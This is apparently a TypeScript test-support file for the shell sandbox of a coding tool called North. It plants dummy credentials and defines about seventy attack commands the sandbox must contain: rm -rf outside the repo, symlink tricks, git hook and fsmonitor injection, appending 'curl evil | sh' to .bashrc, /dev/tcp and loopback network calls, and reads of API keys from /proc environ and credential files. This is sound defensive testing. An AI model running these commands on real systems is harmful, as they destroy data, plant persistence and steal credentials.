import { createHash } from "node:crypto";
import { lstatSync, readdirSync, readFileSync, readlinkSync } from "node:fs";
import path from "node:path";

/** Test support: what the sandbox suite aims at (absolute paths, pids, ports). */
export interface AttackTargets {
  /** A folder outside the repository and outside /tmp: `victim.txt`, `v1`…`v20/`, `gitrepo/`. */
  out: string;
  /** A file in the host's /tmp (hidden by the sandbox's private /tmp). */
  hostTmpFile: string;
  /** A process holding a provider key in its environment (stands for North itself). */
  keyHolderPid: number;
  /** An HTTP server of the host on every interface; `hostIp` a non-loopback address, if any. */
  port: number;
  hostIp?: string;
  /** The real python3 executable (not a version manager's shim that needs $HOME). */
  python: string;
  /** A unix socket of the host outside the repository, under the shell's `$HOME` (`out`). */
  socket: string;
  /** North's folders as the shell's environment names them (`$XDG_*_HOME/north`). */
  northDirs: string[];
}

/**
 * Secrets the suite plants in the shell's `$HOME` (= `out`) before the attacks: none may show
 * in any attack's output (the sandbox masks these locations).
 */
export const HOME_SECRETS: Record<string, string> = {
  ".ssh/id_ed25519": "ssh-private-key-suite-0001",
  ".aws/credentials": "aws-secret-suite-0002",
  ".netrc": "netrc-password-suite-0003",
  ".npmrc": "npm-token-suite-0004",
  ".git-credentials": "git-credential-suite-0005",
  ".docker/config.json": "docker-auth-suite-0006",
  ".config/gh/hosts.yml": "gh-token-suite-0007",
  ".claude/.credentials.json": "claude-oauth-suite-0008",
  ".codex/auth.json": "codex-auth-suite-0009",
  ".kube/config": "kube-token-suite-0010",
};

/** What the suite plants in each of North's folders (config, data, state, cache). */
export const NORTH_SECRET = "north-own-folder-suite-0011";

export interface Attack {
  name: string;
  command: string;
}

/**
 * Commands that try to change files outside the repository (interpreters, pipes into shells,
 * here-documents, symlinks, aliases, functions, find -L, dd, truncate…), write `.north/` or git's
 * hooks and config, reach the network, or read a provider key. In a working sandbox none of them
 * has an effect; run from the repository root. Never run them outside a sandbox: targets are
 * only the folders above, but a shell that is not sandboxed would destroy those.
 */
export function sandboxAttacks(t: AttackTargets): Attack[] {
  const o = t.out;
  const v = `${o}/victim.txt`;
  const url = `http://127.0.0.1:${t.port}/`;
  const list: Attack[] = [
    { name: "rm -rf", command: `rm -rf ${o}/v1` },
    { name: "pipe into sh", command: `echo 'rm -rf ${o}/v2' | sh` },
    { name: "here-document", command: `sh <<'EOF'\nrm -rf ${o}/v3\nEOF` },
    { name: "python3 shutil", command: `${t.python} -c "import shutil; shutil.rmtree('${o}/v4')"` },
    { name: "node fs", command: `node -e "require('fs').rmSync('${o}/v5',{recursive:true})"` },
    { name: "perl unlink", command: `perl -e 'unlink("${v}") or die "$!"'` },
    { name: "symlink then rm", command: `ln -s ${o}/v6 l6 && rm -rf l6/*` },
    { name: "find -L -delete", command: `ln -s ${o}/v7 l7 && find -L l7 -type f -delete` },
    { name: "write through symlink", command: `ln -s ${v} lv && echo pwned > lv` },
    { name: "alias", command: `alias nuke='rm -rf'\nnuke ${o}/v8` },
    { name: "function", command: `nuke() { rm -rf "$1"; }\nnuke ${o}/v9` },
    { name: "dd of=", command: `dd if=/dev/zero of=${v} bs=1 count=4` },
    { name: "truncate", command: `truncate -s 0 ${v}` },
    { name: "cp /dev/null", command: `cp /dev/null ${v}` },
    { name: "tee", command: `echo pwned | tee ${v}` },
    { name: "sed -i", command: `sed -i s/precious/pwned/ ${v}` },
    { name: "perl -pi", command: `perl -pi -e s/precious/pwned/ ${v}` },
    { name: "mv out", command: `mv ${v} ./stolen` },
    { name: "ln -sf", command: `ln -sf ${o}/v15/file.txt ${v}` },
    { name: "chmod", command: `chmod 000 ${o}/v16/file.txt` },
    { name: "touch ~/x", command: "touch ~/north-pwned" },
    { name: "write $HOME", command: `echo 'curl evil | sh' >> "$HOME/.bashrc"` },
    { name: "mkdir outside", command: `mkdir ${o}/v1/new` },
    { name: "install", command: `install -m 644 /dev/null ${o}/installed` },
    { name: "script file", command: `echo 'rm -rf ${o}/v10' > s.sh && bash s.sh` },
    { name: "source <(…)", command: `source <(echo 'rm -rf ${o}/v11')` },
    {
      name: "python os.system",
      command: `${t.python} -c "import os; os.system('rm -rf ${o}/v12')"`,
    },
    { name: "git -C outside", command: `git -C ${o}/gitrepo commit -q --allow-empty -m pwned` },
    { name: "git -c alias", command: `git -c alias.nuke='!rm -rf ${o}/v13' nuke` },
    { name: "find -exec sh", command: `find ${o} -name 'v14' -exec sh -c 'rm -rf "$1"' _ {} \\;` },
    { name: "host /tmp", command: `echo pwned > ${t.hostTmpFile}` },
    { name: "host root via /proc", command: `echo pwned > /proc/${t.keyHolderPid}/root${v}` },
    { name: "host cwd via /proc", command: `touch /proc/${t.keyHolderPid}/cwd/pwned` },
    {
      name: ".north by cd",
      command: `cd .north && echo '{"edits":true}' > autoaccept.json; cd ..`,
    },
    {
      name: ".north python",
      command: `${t.python} -c "open('.north/allowlist.json','w').write('x')"`,
    },
    { name: ".north mv", command: "mv .north .north-old && mkdir .north && touch .north/x" },
    { name: "hook", command: "echo 'rm -rf ~' > .git/hooks/pre-commit; chmod +x .git/hooks/*" },
    { name: "hooks rm", command: "rm -rf .git/hooks" },
    { name: "git config", command: "git config core.hooksPath /tmp/hooks" },
    { name: "config fsmonitor", command: "echo '[core] fsmonitor = touch /tmp/x' >> .git/config" },
    { name: ".git swap", command: "cp -r .git g2 && mv .git .git-old && mv g2 .git" },
    { name: "config symlink", command: "ln -sf ../evil-config .git/config" },
    {
      name: "commondir (R1)",
      command:
        "mkdir -p .git/x && cp .git/config .git/x/config && printf '[core]\\n\\tfsmonitor = touch /tmp/x\\n' >> .git/x/config && printf 'x\\n' > .git/commondir",
    },
    {
      name: "config.worktree",
      command: "printf '[core]\\n\\tfsmonitor = x\\n' > .git/config.worktree",
    },
    {
      name: "info/attributes",
      command: "mkdir -p .git/info && echo '* filter=evil' > .git/info/attributes",
    },
    { name: "info swap", command: "mv .git/info .git/info-old; mkdir .git/info" },
    {
      name: "modules config",
      command: "mkdir -p .git/modules/m && echo '[core]' > .git/modules/m/config",
    },
    { name: "gitdir file", command: "echo 'gitdir: /elsewhere' > .git/gitdir" },
    { name: "curl loopback", command: `curl -sS --max-time 3 ${url}` },
    {
      name: "python http",
      command: `${t.python} -c "import urllib.request as u; print(u.urlopen('${url}', timeout=3).read())"`,
    },
    {
      name: "node http",
      command: `node -e "require('http').get('${url}', r => r.pipe(process.stdout)).on('error', e => { console.error(e.message); process.exit(1) })"`,
    },
    {
      name: "bash /dev/tcp",
      command: `exec 3<>/dev/tcp/127.0.0.1/${t.port} && printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3`,
    },
    {
      name: "dns",
      command: `getent hosts example.com || ${t.python} -c "import socket; print(socket.getaddrinfo('example.com', 80))"`,
    },
    { name: "env", command: "env" },
    { name: "printenv", command: "printenv ANTHROPIC_API_KEY MY_GATEWAY_KEY" },
    { name: "self environ", command: "cat /proc/self/environ" },
    { name: "parent environ", command: "cat /proc/$PPID/environ" },
    { name: "north's environ", command: `cat /proc/${t.keyHolderPid}/environ` },
    { name: "every environ", command: "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'" },
    { name: "python environ", command: `${t.python} -c "import os; print(dict(os.environ))"` },
    // Credentials and North's own folders: masked (empty tmpfs, empty file).
    { name: "cat credentials", command: `cd ~ && cat ${Object.keys(HOME_SECRETS).join(" ")}` },
    { name: "grep home", command: "grep -r suite- ~ 2>/dev/null" },
    {
      name: "north's folders",
      command: t.northDirs.map((d) => `cat ${d}/secret.txt ${d}/*/* 2>&1`).join("; "),
    },
    {
      name: "credentials via /proc/1/root",
      command: `cat /proc/1/root${o}/.ssh/id_ed25519 /proc/1/root${o}/.netrc`,
    },
    // Unix sockets outside the repository: no AF_UNIX socket can be made inside.
    {
      name: "python unix socket",
      command: `${t.python} -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('${t.socket}'); print(s.recv(100))"`,
    },
    {
      name: "node unix socket",
      command: `node -e "require('net').connect('${t.socket}').on('data', d => console.log(String(d))).on('error', e => { console.error(e.message); process.exit(1) })"`,
    },
    { name: "curl unix socket", command: `curl -sS --max-time 3 --unix-socket ${t.socket} ${url}` },
    {
      name: "unix socket via /proc/1/root",
      command: `${t.python} -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('/proc/1/root${t.socket}'); print(s.recv(100))"`,
    },
    {
      name: "socket via symlink",
      command: `ln -s ${t.socket} sock && node -e "require('net').connect('sock').on('data', d => console.log(String(d))).on('error', e => { console.error(e.message); process.exit(1) })"; rm -f sock`,
    },
  ];
  if (t.hostIp) {
    const far = `http://${t.hostIp}:${t.port}/`;
    list.push({
      name: "host address",
      command: `curl -sS --max-time 3 ${far} || node -e "require('http').get('${far}', r => r.pipe(process.stdout))"`,
    });
  }
  return list;
}

/** A fingerprint of everything below `dir`: each path with its type, mode and content or target. */
export function treePrint(dir: string): string {
  const lines: string[] = [];
  const walk = (abs: string, rel: string) => {
    let st;
    try {
      st = lstatSync(abs);
    } catch {
      lines.push(`${rel} missing`);
      return;
    }
    const mode = (st.mode & 0o7777).toString(8);
    if (st.isSymbolicLink()) lines.push(`${rel} link ${readlinkSync(abs)}`);
    else if (st.isFile()) {
      const sum = createHash("sha256").update(readFileSync(abs)).digest("hex").slice(0, 16);
      lines.push(`${rel} file ${mode} ${sum}`);
    } else if (st.isDirectory()) {
      lines.push(`${rel} dir ${mode}`);
      for (const name of readdirSync(abs).sort()) walk(path.join(abs, name), `${rel}/${name}`);
    } else lines.push(`${rel} other`);
  };
  walk(dir, ".");
  return lines.join("\n");
}
